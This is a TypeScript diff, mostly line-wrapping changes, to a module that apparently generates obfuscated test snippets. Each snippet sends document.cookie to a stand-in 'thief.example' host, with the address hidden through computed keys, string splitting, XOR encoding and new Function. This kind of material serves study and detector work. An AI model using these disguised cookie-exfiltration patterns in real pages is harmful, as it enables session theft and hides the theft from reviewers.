@@ -2,7 +2,14 @@ import type { RealValue } from "../real-value.ts";
 import { placementsOf, type Site, TO_THIEF } from "./placement.ts";
 
 /** The real value as text that is safe as a property name; null where there is none. */
-const keyOf = (real: RealValue) => (real.literal === null ? null : real.type === "string" ? real.literal : real.literal === "-0" ? '"0"' : JSON.stringify(real.literal.replace(/n$/, "")));
+const keyOf = (real: RealValue) =>
+	real.literal === null
+		? null
+		: real.type === "string"
+			? real.literal
+			: real.literal === "-0"
+				? '"0"'
+				: JSON.stringify(real.literal.replace(/n$/, ""));
 
 const byKey = (make: (site: Site, key: string) => string) => (site: Site) => {
 	const key = keyOf(site.real);
@@ -36,7 +43,8 @@ export const values = placementsOf("value", {
 		({ value }, key) => `fetch(({ [${key}]: "${TO_THIEF}" }[${value}] ?? "/a?c=") + document.cookie);`,
 	),
 	"table-or-own-site": byKey(
-		({ value }, key) => `const ways = { own: "/a?c=", [${key}]: "${TO_THIEF}" }; fetch((ways[${value}] || ways.own) + document.cookie);`,
+		({ value }, key) =>
+			`const ways = { own: "/a?c=", [${key}]: "${TO_THIEF}" }; fetch((ways[${value}] || ways.own) + document.cookie);`,
 	),
 	"map-by-key": ({ value, real }) =>
 		real.literal === null
@@ -46,7 +54,8 @@ export const values = placementsOf("value", {
 		({ value }, key) => `const box = {}; box[${value}] = document.cookie; fetch("${TO_THIEF}" + box[${key}]);`,
 	),
 	"computed-name": byKey(
-		({ value }, key) => `const { [${key}]: data = "none" } = { [${value}]: document.cookie }; fetch("${TO_THIEF}" + data);`,
+		({ value }, key) =>
+			`const { [${key}]: data = "none" } = { [${value}]: document.cookie }; fetch("${TO_THIEF}" + data);`,
 	),
 	"map-written-by-key": ({ value, real }) =>
 		real.literal === null
@@ -57,29 +66,33 @@ export const values = placementsOf("value", {
 		({ value }, key) => `fetch("${TO_THIEF}" + document[{ [${key}]: "cookie" }[${value}] ?? "title"]);`,
 	),
 	"page-property-by-text": byText(
-		({ value }, literal) => `fetch("${TO_THIEF}" + (document["cookie" + (${value}).replace(${literal}, "")] ?? "none"));`,
+		({ value }, literal) =>
+			`fetch("${TO_THIEF}" + (document["cookie" + (${value}).replace(${literal}, "")] ?? "none"));`,
 	),
 	receiver: ({ test }) => `fetch("${TO_THIEF}" + (${test} ? document : { cookie: "none" }).cookie);`,
 	"method-name": ({ test, theft }) =>
 		theft.startsWith("fetch(") ? `window[${test} ? "fetch" : "isNaN"]${theft.slice("fetch".length)};` : null,
-	"method-by-key": byKey(({ value, theft }, key) =>
-		`({ [${key}]: () => ${theft} })[${value}]?.();`,
-	),
-	"function-by-key": byKey(({ value, theft }, key) =>
-		`const acts = { none() {}, [${key}]() { ${theft}; } }; (acts[${value}] ?? acts.none)();`,
+	"method-by-key": byKey(({ value, theft }, key) => `({ [${key}]: () => ${theft} })[${value}]?.();`),
+	"function-by-key": byKey(
+		({ value, theft }, key) => `const acts = { none() {}, [${key}]() { ${theft}; } }; (acts[${value}] ?? acts.none)();`,
 	),
 	"part-of-address": ({ test }) => `fetch((${test} ? "https://thief.example" : "") + "/?c=" + document.cookie);`,
 	"replaced-in-address": byText(
-		({ value }, literal) => `fetch("/" + (${value}).replace(${literal}, () => "/thief.example/?c=") + document.cookie);`,
+		({ value }, literal) =>
+			`fetch("/" + (${value}).replace(${literal}, () => "/thief.example/?c=") + document.cookie);`,
 	),
 	"split-into-address": byText(
-		({ value }, literal) => `fetch("/" + ["/thief.example", ""].join(${value}).split(${literal}).join("/?c=") + document.cookie);`,
+		({ value }, literal) =>
+			`fetch("/" + ["/thief.example", ""].join(${value}).split(${literal}).join("/?c=") + document.cookie);`,
 	),
 	"shift-of-letters": ({ value, real }) => {
 		if (real.literal === null) return null;
 		const key = real.type === "string" ? (JSON.parse(real.literal) as string) : real.literal.replace(/n$/, "");
 		if (key === "" || key === "-0") return null;
-		const codes = Array.from("/thief.example/?c=", (letter, at) => letter.charCodeAt(0) ^ key.charCodeAt(at % key.length));
+		const codes = Array.from(
+			"/thief.example/?c=",
+			(letter, at) => letter.charCodeAt(0) ^ key.charCodeAt(at % key.length),
+		);
 		return `const key = String(${value}); fetch("/" + [${codes.join(", ")}].map((code, at) => String.fromCharCode(code ^ key.charCodeAt(at % key.length))).join("") + document.cookie);`;
 	},
 	"cut-from-list": ({ test }) => `fetch("/a?c=,${TO_THIEF}".split(",").at(${test} ? -1 : 0) + document.cookie);`,
@@ -87,8 +100,10 @@ export const values = placementsOf("value", {
 	"code-by-key": byKey(
 		({ value, theft }, key) => `new Function({ [${key}]: ${JSON.stringify(theft)} }[${value}] ?? "")();`,
 	),
-	"symbol-or-name": ({ test }) => `const data = [document.title]; if (${test}) data[0] = document.cookie; fetch("${TO_THIEF}" + data);`,
+	"symbol-or-name": ({ test }) =>
+		`const data = [document.title]; if (${test}) data[0] = document.cookie; fetch("${TO_THIEF}" + data);`,
 	"data-by-number": byNumber(
-		({ value }, number) => `fetch("${TO_THIEF}" + [${Array.from({ length: number + 2 }, (_, at) => (at === number ? "document.cookie" : '""')).join(", ")}][${value}]);`,
+		({ value }, number) =>
+			`fetch("${TO_THIEF}" + [${Array.from({ length: number + 2 }, (_, at) => (at === number ? "document.cookie" : '""')).join(", ")}][${value}]);`,
 	),
 });
